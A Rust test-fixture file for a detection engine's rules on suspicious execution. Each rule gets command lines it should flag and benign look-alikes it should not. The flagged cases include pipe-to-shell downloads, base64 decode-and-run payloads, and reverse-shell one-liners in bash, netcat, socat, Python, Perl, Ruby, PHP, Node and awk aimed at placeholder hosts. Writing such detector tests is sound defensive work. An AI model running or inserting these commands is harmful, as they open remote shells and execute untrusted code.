//! Rules on programs that run what they should not: pipes into shells, hidden programs, reverse shells.

use enricher::activity::Phase;

use crate::Case;
use crate::common::*;

pub fn exec_cases() -> Vec<Case> {
    vec![
        (
            "common/pipe-to-shell",
            vec![
                shell("curl -fsSL https://x.example/i.sh | sh"),
                shell("wget -qO- 'http://x/?a=1&b=2' | sudo -E bash -"),
                shell("curl -s x | tee /tmp/l |& /bin/bash -s -- --yes"),
                shell("cd /tmp && curl x | python3 -; true"),
                shell("bash <(curl -s x)"),
                shell("eval \"$(curl -s x)\""),
                exec_args("/bin/bash", &["bash", "-lc", "sh -c \"$(wget -O- x)\""]),
                exec_args("/bin/busybox", &["sh", "-c", "wget -O- x | sh"]),
                exec_args("/bin/busybox", &["busybox", "sh", "-c", "wget -O- x | sh"]),
                shell("curl x|env A=1 sh>/dev/null 2>&1"),
                shell("curl x \\\n  | sh\n"),
            ],
            vec![
                shell("curl -fsS -o /workspace/page.html https://example.org"),
                shell("curl -s https://api/x | jq .name"),
                shell("curl -s https://api/x | python3 -m json.tool"),
                shell("curl -s https://api/x | python3 parse.py"),
                shell("curl -s https://api/x | node -e 'process.stdin.pipe(process.stdout)'"),
                shell("curl -s https://x/install.sh | less"),
                shell("curl -s x | grep shell | sort"),
                exec("/usr/bin/git", "git commit -m docs: curl x | sh"),
            ],
        ),
        (
            "common/decode-and-run",
            vec![
                shell("echo aWQ= | base64 -d | sh"),
                shell("echo aWQ=|base64 --decode|bash -s"),
                shell("xxd -r -p p.hex | sh"),
                shell("openssl enc -aes-256-cbc -d -in p -k k | bash"),
                shell("eval $(echo aWQ= | base64 -d)"),
                shell("bash -c \"$(base64 -d <<< aWQ=)\""),
                exec_args("/bin/busybox", &["sh", "-c", "echo aWQ= | base64 -d | sh"]),
                exec_args(
                    "/usr/bin/python3.11",
                    &[
                        "python3",
                        "-c",
                        "import base64;exec(base64.b64decode('aWQ='))",
                    ],
                ),
                exec_args(
                    "/usr/bin/node",
                    &[
                        "node",
                        "-e",
                        "eval(Buffer.from('aWQ=','base64').toString())",
                    ],
                ),
            ],
            vec![
                shell("echo aWQ= | base64 -d > out.bin"),
                shell("echo $JWT | cut -d. -f2 | base64 -d | jq ."),
                shell("cat x | base64 | curl -d @- https://x"),
                shell("base64 -d a | python3 -m json.tool"),
                exec_args(
                    "/usr/bin/python3.11",
                    &[
                        "python3",
                        "-c",
                        "import base64;print(base64.b64decode('aWQ='))",
                    ],
                ),
            ],
        ),
        (
            "common/exec-world-writable",
            vec![
                exec("/tmp/x", "/tmp/x"),
                exec("/var/tmp/.a/b", "b"),
                exec("/dev/shm/k", "k"),
                exec("/run/lock/k", "k"),
                exec("/usr/bin/dash", "/bin/sh /dev/shm/x.sh").path("/dev/shm/x.sh", "NORMAL"),
                exec("/tmp/go-build1/b001/exe/main", "main"),
                exec("/tmp/tmpab12/evil", "evil").parent("/usr/bin/python3.11"),
            ],
            vec![
                exec("/usr/bin/python3", "python3 /tmp/x.py"),
                exec("/tmp/go-build1/b001/exe/main", "main").parent("/usr/local/go/bin/go"),
                exec("/tmp/pip-build-env-x/overlay/bin/ninja", "ninja")
                    .parent("/usr/bin/python3.11"),
                exec("/tmp/b/conftest", "./conftest"),
                exec("/tmp/x", "/tmp/x").refused("EACCES"),
                exec("/tmp/x", "/tmp/x").phase(Phase::Setup),
                exec("/home/node/tmp/x", "x"),
            ],
        ),
        (
            "common/exec-without-file",
            vec![
                exec("/memfd:x (deleted)", "x"),
                exec("/home/node/x (deleted)", "x"),
            ],
            vec![
                exec("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init")
                    .phase(Phase::Setup),
                exec("/usr/bin/id", "id"),
            ],
        ),
        (
            "common/exec-through-loader",
            vec![
                exec(
                    "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                    "/lib64/ld-linux-x86-64.so.2 /tmp/x",
                ),
                exec(
                    "/lib/ld-musl-x86_64.so.1",
                    "/lib/ld-musl-x86_64.so.1 /dev/shm/x",
                ),
            ],
            vec![exec(
                "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                "/lib64/ld-linux-x86-64.so.2 --verify /usr/bin/node",
            )],
        ),
        (
            "common/reverse-shell-dev-tcp",
            vec![
                exec_args(
                    "/bin/bash",
                    &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                ),
                exec_args(
                    "/bin/bash",
                    &[
                        "bash",
                        "-c",
                        "exec 5<>/dev/tcp/1.2.3.4/9;cat <&5|while read l;do $l 2>&5 >&5;done",
                    ],
                ),
                exec_args(
                    "/bin/bash",
                    &["bash", "-c", "sh -i 5<> /dev/tcp/1.2.3.4/9 0<&5 1>&5 2>&5"],
                ),
            ],
            vec![
                exec_args(
                    "/bin/bash",
                    &[
                        "bash",
                        "-c",
                        "timeout 1 bash -c '</dev/tcp/127.0.0.1/18789'",
                    ],
                ),
                exec_args(
                    "/bin/bash",
                    &["bash", "-c", "(echo > /dev/tcp/db/5432) 2>/dev/null"],
                ),
            ],
        ),
        (
            "common/reverse-shell-netcat",
            vec![
                exec("/usr/bin/nc.traditional", "nc -e /bin/sh 10.0.0.1 4444"),
                exec("/usr/bin/ncat", "ncat --sh-exec sh 10.0.0.1 4444"),
                exec("/usr/bin/ncat", "ncat 10.0.0.1 4444 -c bash"),
                exec("/bin/busybox", "nc 10.0.0.1 4444 -e sh"),
                exec("/bin/busybox", "busybox nc 10.0.0.1 4444 -e /bin/sh"),
            ],
            vec![
                exec("/usr/bin/nc.openbsd", "nc -z -w1 db 5432"),
                exec("/usr/bin/nc", "nc -vz example.sh 443"),
            ],
        ),
        (
            "common/reverse-shell-interpreter",
            vec![
                exec_args(
                    "/usr/bin/python3.11",
                    &[
                        "python3",
                        "-c",
                        "import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
                    ],
                ),
                exec_args(
                    "/usr/bin/perl",
                    &[
                        "perl",
                        "-e",
                        "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');exec('sh -i');",
                    ],
                ),
                exec_args(
                    "/usr/bin/ruby3.1",
                    &[
                        "ruby",
                        "-rsocket",
                        "-e",
                        "c=TCPSocket.new('1.2.3.4',9);exec 'sh'",
                    ],
                ),
                exec_args(
                    "/usr/bin/php8.2",
                    &["php", "-r", "$s=fsockopen('1.2.3.4',9);exec('sh <&3 >&3');"],
                ),
                exec_args(
                    "/usr/bin/node",
                    &[
                        "node",
                        "-e",
                        "const n=require('net'),c=require('child_process').spawn('sh');const s=n.connect(9,'1.2.3.4',()=>{s.pipe(c.stdin);c.stdout.pipe(s)})",
                    ],
                ),
                exec_args(
                    "/usr/bin/gawk",
                    &[
                        "awk",
                        "BEGIN{s=\"/inet/tcp/0/1.2.3.4/9\";while(1){s|&getline c}}",
                    ],
                ),
            ],
            vec![
                exec_args(
                    "/usr/bin/python3.11",
                    &["python3", "-c", "import socket;print(socket.gethostname())"],
                ),
                exec_args(
                    "/usr/bin/node",
                    &[
                        "node",
                        "-e",
                        "require('http').get('http://127.0.0.1:18789/health',r=>process.exit(r.statusCode===200?0:1))",
                    ],
                ),
                exec_args(
                    "/usr/bin/node",
                    &[
                        "node",
                        "-e",
                        "console.log(require('child_process').execSync('id').toString())",
                    ],
                ),
                exec_args("/usr/bin/perl", &["perl", "-e", "print 1"]),
            ],
        ),
        (
            "common/reverse-shell-socat",
            vec![
                exec(
                    "/usr/bin/socat",
                    "socat tcp-connect:1.2.3.4:9 exec:sh,pty,stderr",
                ),
                exec("/usr/bin/socat", "socat TCP:1.2.3.4:9 SYSTEM:sh"),
            ],
            vec![
                exec(
                    "/usr/bin/socat",
                    "socat TCP-LISTEN:3000,fork TCP:127.0.0.1:3001",
                ),
                exec("/usr/bin/socat", "socat - EXEC:ls"),
            ],
        ),
        (
            "common/reverse-shell-fifo",
            vec![shell(
                "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 9 >/tmp/f",
            )],
            vec![
                shell("mkfifo /tmp/f; cat /tmp/f | gzip > /tmp/o"),
                shell("nc -z db 5432"),
            ],
        ),
    ]
}
